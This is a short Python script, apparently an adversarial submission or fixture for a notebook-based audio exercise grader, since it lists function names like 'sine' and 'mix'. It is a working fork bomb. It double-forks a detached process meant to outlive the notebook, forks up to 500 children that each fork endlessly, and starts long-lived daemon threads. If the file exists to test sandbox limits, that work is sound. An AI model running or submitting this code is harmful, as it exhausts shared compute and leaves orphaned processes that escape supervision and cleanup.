"""Starts processes and threads without end, some of them to outlive the notebook."""
import os, threading, time
NAMES = ("time_axis", "sine", "periods_and_samples", "tone_then_silence", "tone_sequence", "add_fades", "mix")

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(600)
    os._exit(0)
for _ in range(500):
    try:
        if os.fork() == 0:
            while True:
                try:
                    os.fork()
                except OSError:
                    time.sleep(0.01)
        threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
    except (OSError, RuntimeError):
        break
